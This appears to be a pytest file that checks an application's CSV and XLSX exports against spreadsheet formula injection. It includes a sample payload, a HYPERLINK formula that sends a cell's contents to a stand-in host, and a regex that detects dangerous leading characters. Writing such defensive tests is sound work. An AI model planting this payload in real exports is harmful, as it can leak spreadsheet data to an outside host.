"""Every CSV/XLSX download route, found from each service's OpenAPI (GET operations with a `format` query argument
offering csv or xlsx, so routes renamed later are still found), answers without 5xx and carries no live formula:
no XLSX `<f>` element and no CSV/XLSX cell starting with = + - @ tab or CR unless neutralised with an apostrophe
(issue 12, finding 2). Stored hostile names (a formula, a control character) go through the registry export."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
import sqlalchemy as sa

from shared.config import SERVICES
from tests.unit.apps import ADMIN_AUTH, API_AUTH

HOSTILE = '=HYPERLINK("http://x/?d="&A1,"Xem")'
DANGEROUS = re.compile(r"^[=+@\t\r-]")
PLAIN_NUMBER = re.compile(r"-?\d+([.,]\d+)*")


def download_operations(spec: dict) -> list[tuple[str, dict]]:
    out = []
    for path, item in spec["paths"].items():
        get = item.get("get")
        if not get:
            continue
        for param in get.get("parameters", []):
            enum = (param.get("schema") or {}).get("enum") or []
            if param.get("name") == "format" and param.get("in") == "query" and {"csv", "xlsx"} & set(enum):
                out.append((path, get))
    return out


def _value(param: dict) -> str:
    schema = param.get("schema") or {}
    if schema.get("enum"):
        return str(schema["enum"][0])
    if schema.get("type") == "integer":
        return "2026"
    if schema.get("format") == "date":
        return "2026-01-01"
    return "1"


def _url(path: str, op: dict, fmt: str) -> str:
    query = {"format": fmt}
    for param in op.get("parameters", []):
        if param.get("in") == "query" and param.get("required") and param["name"] != "format":
            query[param["name"]] = _value(param)
    path = re.sub(r"\{[^}]+\}", "1", path)
    return path + "?" + "&".join(f"{k}={v}" for k, v in query.items())


def _cells(resp, fmt: str) -> list[str]:
    if fmt == "csv":
        return [c for row in csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))) for c in row]
    with zipfile.ZipFile(io.BytesIO(resp.data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, f"formula in {name}"
    from openpyxl import load_workbook
    ws = load_workbook(io.BytesIO(resp.data)).active
    return [str(c.value) for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def _assert_safe(cells: list[str], where: str) -> None:
    for cell in cells:
        assert not (DANGEROUS.match(cell) and not PLAIN_NUMBER.fullmatch(cell)), f"{where}: live cell {cell!r}"


def _seed_needs(client) -> None:
    from tests.unit.needs.factories import register
    assert client.post("/admin/needs/seed", json={"civil_servants": 2}, headers=ADMIN_AUTH).status_code == 200
    register(client, full_name=HOSTILE)
    broken = register(client, full_name="Lê Thị Ngắt")
    engine = client.application.extensions["service"].engine
    with engine.begin() as conn:  # a value stored before input was checked: writers must still work
        table = sa.Table("civil_servants", sa.MetaData(), autoload_with=conn)
        key = "id" if "id" in table.c else list(table.primary_key.columns)[0].name
        conn.execute(table.update().where(table.c.full_name == "Lê Thị Ngắt").values(full_name="Lê\x0bThị\x00Ngắt"))
    assert broken


def _seed_funding(client) -> None:
    """A hostile legal basis on a norm, and a settled 2026 course whose spending source is stored as a formula
    (a value from before sources were checked): the spending reports and the burn workbook's series header."""
    from tests.unit.apps import deliver
    from tests.unit.funding.factories import completed_from, scheduled, trainee
    norm = {"item": "travel", "unit": "per_km", "lecturer_tier": None, "province_code": "CM", "amount": 2_000,
            "legal_basis": HOSTILE, "valid_from": "2030-01-01"}
    for path in ("/api/v1/rules/cost-norms", "/api/v1/cost-norms"):  # issue 11 moves the route
        if client.post(path, json=norm, headers=API_AUTH).status_code in (200, 201):
            break
    assert client.post("/admin/funding/seed", json={"fiscal_year": 2026}, headers=ADMIN_AUTH).status_code == 200
    body, plan = scheduled(trainees=[trainee("CM-TANLOC")])
    deliver(client.application, body)
    deliver(client.application, completed_from(plan)[0])
    with client.application.extensions["service"].engine.begin() as conn:
        lines = sa.Table("settlement_lines", sa.MetaData(), autoload_with=conn)
        assert conn.execute(lines.update().where(lines.c.source == "unit_regular").values(source=HOSTILE)).rowcount


SEEDS = {"needs": _seed_needs, "funding": _seed_funding}


@pytest.mark.parametrize("service", SERVICES)
def test_every_download_route_answers_without_live_formulas(make_client, service, capsys):
    client = make_client(service)
    SEEDS.get(service, lambda c: None)(client)
    spec = client.get("/openapi.json").get_json()
    operations = download_operations(spec)
    assert operations, f"{service}: no download route found in OpenAPI"
    answered = 0
    for path, op in operations:
        for fmt in ("csv", "xlsx"):
            resp = client.get(_url(path, op, fmt), headers=API_AUTH)
            assert resp.status_code < 500, f"{service} {path} {fmt}: {resp.status_code}"
            if resp.status_code == 200 and resp.mimetype != "application/json":
                answered += 1
                _assert_safe(_cells(resp, fmt), f"{service} {path} {fmt}")
    with capsys.disabled():
        print(f"\n{service}: {len(operations)} download routes, {answered} files checked")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_registry_export_neutralises_a_stored_formula_and_survives_a_stored_control_character(make_client, fmt):
    client = make_client("needs")
    _seed_needs(client)
    [(path, op)] = [(p, o) for p, o in download_operations(client.get("/openapi.json").get_json())
                    if "civil-servants" in p and "{" not in p][:1]
    resp = client.get(_url(path, op, fmt), headers=API_AUTH)
    assert resp.status_code == 200, resp.data[:300]
    cells = _cells(resp, fmt)
    assert "'" + HOSTILE in cells
    assert any("Lê\ufffdThị\ufffdNgắt" == c for c in cells)


def test_the_funding_burn_workbook_goes_through_the_shared_writer_with_its_chart(make_client):
    """The burn workbook was built by hand with openpyxl (a source label "=…" became a live formula in its header):
    it now goes through shared.tabular.to_xlsx, which neutralises every cell and draws the same line chart."""
    from openpyxl import load_workbook
    client = make_client("funding")
    _seed_funding(client)
    resp = client.get("/api/v1/reports/burn?fiscal_year=2026&format=xlsx")
    assert resp.status_code == 200 and resp.mimetype == "application/vnd.openxmlformats-officedocument" \
        ".spreadsheetml.sheet", resp.data[:300]
    cells = _cells(resp, "xlsx")  # fails on any <f> in a worksheet
    _assert_safe(cells, "funding burn xlsx")
    sheet = load_workbook(io.BytesIO(resp.data)).active
    header = [c.value for c in sheet[1]]
    assert header[0] == "Tháng" and "'" + HOSTILE in header
    assert len(sheet._charts) == 1
    column = header.index("'" + HOSTILE) + 1
    assert sheet.cell(row=13, column=column).value > 0  # the cumulative December value, a number


def test_no_module_but_the_shared_writer_writes_spreadsheets():
    """One neutralising path: only shared/tabular.py may build a workbook or a CSV writer (funding's burn workbook
    once bypassed it with openpyxl directly)."""
    from shared.config import PROJECT_ROOT
    writers = re.compile(r"\bopenpyxl\b|\bxlsxwriter\b|csv\.(writer|DictWriter)\b")
    offenders = [str(path.relative_to(PROJECT_ROOT)) for root in ("services", "shared")
                 for path in sorted((PROJECT_ROOT / root).rglob("*.py"))
                 if path.name != "tabular.py" and "migrations" not in path.parts and writers.search(path.read_text())]
    assert offenders == [], offenders
